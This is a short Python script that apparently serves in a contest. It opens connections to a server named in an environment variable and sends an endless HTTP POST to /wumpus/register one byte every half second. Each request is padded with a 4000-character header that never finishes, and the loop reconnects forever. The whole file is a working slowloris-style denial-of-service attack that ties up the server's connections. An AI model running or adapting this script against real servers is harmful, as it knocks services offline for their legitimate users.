# SPDX-License-Identifier: MIT
# Sends a request that never ends, a byte at a time, to the contest's server.
import os
import socket
import time

host, port = os.environ["QUADRILLE_URL"].split("//")[1].split(":")
while True:
    try:
        server = socket.create_connection((host, int(port)))
        for letter in "POST /wumpus/register HTTP/1.1\r\nX: " + "x" * 4000:
            server.send(letter.encode())
            time.sleep(0.5)
    except OSError:
        pass
